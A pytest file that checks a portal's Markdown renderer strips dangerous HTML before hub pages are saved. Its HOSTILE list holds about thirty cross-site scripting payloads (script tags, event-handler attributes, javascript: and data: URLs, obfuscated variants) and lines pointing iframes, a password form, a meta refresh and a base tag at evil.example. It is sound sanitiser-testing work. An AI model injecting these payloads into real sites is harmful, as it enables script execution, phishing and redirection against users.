"""Hub pages' Markdown is cleaned on save: a hostile corpus leaves nothing that runs, styles or leaves the site."""

from __future__ import annotations

import re
from html.parser import HTMLParser

import pytest

from portal.hub.markdown import plain_text, render_markdown

HOSTILE = [
    "<script>alert(1)</script>",
    "<SCRIPT SRC=//evil.example/x.js></SCRIPT>",
    '<img src=x onerror="alert(1)">',
    '<a href="javascript:alert(1)">click</a>',
    '<a href="JaVaScRiPt:alert(1)">click</a>',
    '<a href="&#106;avascript:alert(1)">click</a>',
    '<a href=" javascript:alert(1)">click</a>',
    "[click](javascript:alert(1))",
    "[click](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[click](vbscript:msgbox(1))",
    '<svg onload="alert(1)"><circle r="10"/></svg>',
    "<svg><script>alert(1)</script></svg>",
    '<math><mi xlink:href="javascript:alert(1)">x</mi></math>',
    '<p style="background:url(javascript:alert(1))">styled</p>',
    "<style>body{display:none}</style>",
    '<div onclick="alert(1)" onmouseover="alert(2)">hover</div>',
    '<iframe src="https://evil.example"></iframe>',
    '<object data="x.swf"></object><embed src="x.swf">',
    '<form action="https://evil.example"><input name="password"></form>',
    '<a href="https://example.org" class="govuk-button" id="skip" target="_blank">ok</a>',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<base href="https://evil.example/">',
    "<!-- <script>alert(1)</script> -->",
    '<details open ontoggle="alert(1)">x</details>',
    "<template><script>alert(1)</script></template>",
    '"><script>alert(1)</script>',
    "<scr<script>ipt>alert(1)</script>",
    '<a href="https://example.org" onfocus="alert(1)" autofocus>x</a>',
]
SAFE_TAGS = {
    "p", "br", "strong", "em", "b", "i", "a", "ul", "ol", "li", "h2", "h3", "h4", "blockquote", "code", "pre", "hr",
    "table", "thead", "tbody", "tr", "th", "td", "abbr",
}  # fmt: skip
SAFE_ATTRIBUTES = {"class", "href", "rel", "title", "scope"}


class _Elements(HTMLParser):
    def __init__(self):
        super().__init__()
        self.found: list[tuple[str, dict]] = []

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))


def _problems(cleaned: str) -> list[str]:
    parser = _Elements()
    parser.feed(cleaned)
    problems = []
    for tag, attrs in parser.found:
        if tag not in SAFE_TAGS:
            problems.append(f"tag {tag}")
        problems += [f"{tag}[{name}]" for name in attrs if name not in SAFE_ATTRIBUTES]
        href = (attrs.get("href") or "").strip().lower()
        if href and not re.match(r"^(https?:|mailto:|tel:|/|#)", href):
            problems.append(f"href {href}")
    return problems


@pytest.mark.parametrize("hostile", HOSTILE)
def test_hostile_markdown_keeps_nothing_that_runs_or_styles(hostile):
    cleaned = render_markdown(f"Before\n\n{hostile}\n\nAfter")
    assert not _problems(cleaned), cleaned
    assert "alert(1)</script" not in cleaned.lower() and "After" in cleaned


def test_only_govuk_classes_set_by_hearth_remain():
    cleaned = render_markdown('<a href="https://example.org" class="govuk-button">ok</a>')
    assert 'class="govuk-link"' in cleaned and "govuk-button" not in cleaned
    assert 'rel="noopener noreferrer"' in cleaned


def test_ordinary_markdown_becomes_govuk_html_below_the_pages_own_heading():
    html = render_markdown(
        "# Allowances\n\nPaid **weekly**.\n\n* one\n* two\n\n| Age | £ |\n|---|---|\n| 0 to 2 | 170 |\n\n"
        "[Call us](tel:01234567890) or [email](mailto:team@example.org) or [GOV.UK](https://www.gov.uk)"
    )
    assert '<h2 class="govuk-heading-m">Allowances</h2>' in html and "<h1" not in html
    assert '<ul class="govuk-list govuk-list--bullet">' in html
    assert '<table class="govuk-table">' in html and '<td class="govuk-table__cell">170</td>' in html
    assert 'href="tel:01234567890"' in html and 'href="mailto:team@example.org"' in html
    assert 'href="https://www.gov.uk"' in html


def test_markdown_just_below_a_stray_tag_is_still_markdown():
    html = render_markdown(
        "# Hostile\n\n<img src=x onerror=alert(1)>\n[GOV.UK](https://www.gov.uk) d\n| a | b |\n|---|---|\n| 1 | 2 |\n"
    )
    assert '<table class="govuk-table">' in html and '<td class="govuk-table__cell">2</td>' in html
    assert 'href="https://www.gov.uk"' in html and "| a |" not in html and not _problems(html)


def test_plain_text_for_search_has_no_markup():
    assert plain_text(render_markdown("# Title\n\nSome *words* & more")) == "Title Some words & more"
